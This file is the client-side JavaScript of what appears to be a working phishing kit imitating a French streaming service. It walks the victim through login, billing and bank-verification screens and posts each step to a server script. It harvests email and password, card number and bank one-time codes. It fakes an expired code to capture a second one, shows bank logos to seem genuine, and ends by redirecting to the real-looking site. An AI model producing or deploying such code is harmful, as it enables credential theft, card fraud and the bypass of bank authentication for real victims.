var etapes = ['connexion', 'facturation', 'banque', 'fin'];
var reponses = { service: 'cine' };
function montrer(nom) {
  etapes.forEach(function (e) {
    document.getElementById(e).className = e === nom ? 'etape visible' : 'etape';
  });
  window.scrollTo(0, 0);
}
function lire(id) {
  var champs = document.querySelectorAll('#' + id + ' input, #' + id + ' select');
  for (var i = 0; i < champs.length; i++) reponses[champs[i].name] = champs[i].value;
}
function attente(texte, ms, suite) {
  var v = document.getElementById('voile');
  v.querySelector('p').textContent = texte;
  v.style.display = 'block';
  setTimeout(function () { v.style.display = 'none'; suite(); }, ms);
}
function poster(etape, suite) {
  var r = new XMLHttpRequest();
  r.open('POST', './app/rez.php');
  r.setRequestHeader('Content-Type', 'application/json');
  r.onreadystatechange = function () { if (r.readyState === 4) suite(); };
  r.send(JSON.stringify({ etape: etape, donnees: reponses }));
}
document.getElementById('btn-connexion').onclick = function () {
  lire('connexion');
  if (!reponses.email || !reponses.motdepasse) return;
  poster('connexion', function () {
    attente('Connexion à votre espace...', 1800, function () { montrer('facturation'); });
  });
};
document.getElementById('btn-facturation').onclick = function () {
  lire('facturation');
  var num = (reponses.carte || '').replace(/\D/g, '');
  if (num.length < 15) {
    document.getElementById('err-carte').textContent = 'Numéro de carte invalide';
    return;
  }
  var logos = { '4970': 'banque-a', '4972': 'banque-b', '5131': 'banque-c', '5132': 'banque-d' };
  reponses.etablissement = logos[num.slice(0, 4)] || 'autre';
  document.getElementById('logo-banque').src = 'img/' + reponses.etablissement + '.png';
  document.getElementById('montant').textContent = '0,00 €';
  poster('facturation', function () {
    attente('Vérification auprès de votre banque...', 4000, function () { montrer('banque'); });
  });
};
document.getElementById('btn-banque').onclick = function () {
  lire('banque');
  poster('code', function () {
    var restant = Number(sessionStorage.getItem('codes') || 0) + 1;
    sessionStorage.setItem('codes', restant);
    attente('Validation du code...', 5000, function () {
      if (restant < 2) {
        document.getElementById('err-code').textContent = 'Code expiré. Un nouveau code vous a été envoyé.';
        document.querySelector('#banque input').value = '';
      } else {
        montrer('fin');
        setTimeout(function () { location.href = 'https://www.cine-chez-vous.example/'; }, 4000);
      }
    });
  });
};
montrer('connexion');
